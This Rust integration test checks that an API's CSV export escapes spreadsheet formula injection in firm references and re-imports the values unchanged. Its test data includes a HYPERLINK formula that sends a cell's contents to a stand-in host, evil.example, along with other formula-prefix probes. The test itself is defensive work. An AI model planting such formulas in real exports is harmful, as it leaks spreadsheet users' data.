//! A CSV export never hands a spreadsheet a formula, and imports back to what was stored.

use readiness_api::services::imports::{ImportFormat, import};
use serde_json::{Map, Value, json};

use crate::helpers::{Backend, FINE_TUNE, TestApp, answers, spawn_app};

/// Firm references a spreadsheet would run as formulas (or that start like the escape).
const HOSTILE_REFS: [&str; 6] = [
    r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#,
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "'=1+1",
    "'quoted",
];

async fn csv_export(app: &TestApp) -> Vec<u8> {
    let reply = app
        .get_as(&app.analyst_key, "/api/v1/exports/responses?format=csv")
        .await;
    assert_eq!(reply.status().as_u16(), 200);
    reply.bytes().await.unwrap().to_vec()
}

fn column(bytes: &[u8], name: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(bytes);
    let at = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == name)
        .unwrap();
    let mut cells: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[at].to_owned())
        .collect();
    cells.sort();
    cells
}

async fn ndjson_refs(app: &TestApp) -> Vec<String> {
    let reply = app
        .get_as(&app.analyst_key, "/api/v1/exports/responses?format=ndjson")
        .await;
    let text = reply.text().await.unwrap();
    let mut refs: Vec<String> = text
        .lines()
        .map(|line| {
            let row: Map<String, Value> = serde_json::from_str(line).unwrap();
            row["firm_ref"].as_str().unwrap().to_owned()
        })
        .collect();
    refs.sort();
    refs
}

async fn formula_cells_are_text_and_import_back_unchanged(app: TestApp) {
    let batch = json!({"responses": HOSTILE_REFS.iter().map(|firm_ref| json!({
        "firm": {"ref": firm_ref, "industry": "C", "size_band": "small", "country": "DE"},
        "answers": answers(&[FINE_TUNE]),
    })).collect::<Vec<_>>()});
    let reply: Value = app.submit_batch(&batch).await.json().await.unwrap();
    assert_eq!(reply["created"], HOSTILE_REFS.len(), "{reply}");

    let file = csv_export(&app).await;
    let mut written: Vec<String> = HOSTILE_REFS.iter().map(|r| format!("'{r}")).collect();
    written.sort();
    assert_eq!(column(&file, "firm_ref"), written);
    // NDJSON is read by programs, not spreadsheets: the values stay as stored.
    let mut stored: Vec<String> = HOSTILE_REFS.iter().map(|r| (*r).to_owned()).collect();
    stored.sort();
    assert_eq!(ndjson_refs(&app).await, stored);

    let backend = match app.db.get_database_backend() {
        sea_orm::DbBackend::Postgres => Backend::Postgres,
        _ => Backend::Sqlite,
    };
    let fresh = spawn_app(backend).await.unwrap();
    let mut rejects = Vec::new();
    let summary = import(
        &fresh.db,
        &file[..],
        ImportFormat::Csv,
        &mut rejects,
        |_| {},
    )
    .await
    .unwrap();
    assert_eq!(summary.stored, HOSTILE_REFS.len() as u64, "{rejects:?}");
    assert_eq!(ndjson_refs(&fresh).await, stored);
    // Exported again, the file is byte for byte what the first server wrote, apart from
    // `received_at` (the time of the import).
    assert_eq!(
        column(&csv_export(&fresh).await, "firm_ref"),
        column(&file, "firm_ref")
    );

    // The rejects file is a CSV too: a hostile id in it is quoted like any other cell.
    let text = String::from_utf8(file).unwrap();
    let first_id = text.lines().nth(1).unwrap().split(',').next().unwrap();
    let edited = text.replacen(first_id, "=1+2", 1);
    let mut rejects = Vec::new();
    let summary = import(
        &fresh.db,
        edited.as_bytes(),
        ImportFormat::Csv,
        &mut rejects,
        |_| {},
    )
    .await
    .unwrap();
    assert_eq!(summary.rejected, 1);
    let rejects = String::from_utf8(rejects).unwrap();
    let mut reader = csv::Reader::from_reader(rejects.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1, "{rejects}");
    assert_eq!(&rows[0][1], "'=1+2", "{rejects}");
}

crate::on_both_databases!(formula_cells_are_text_and_import_back_unchanged,);
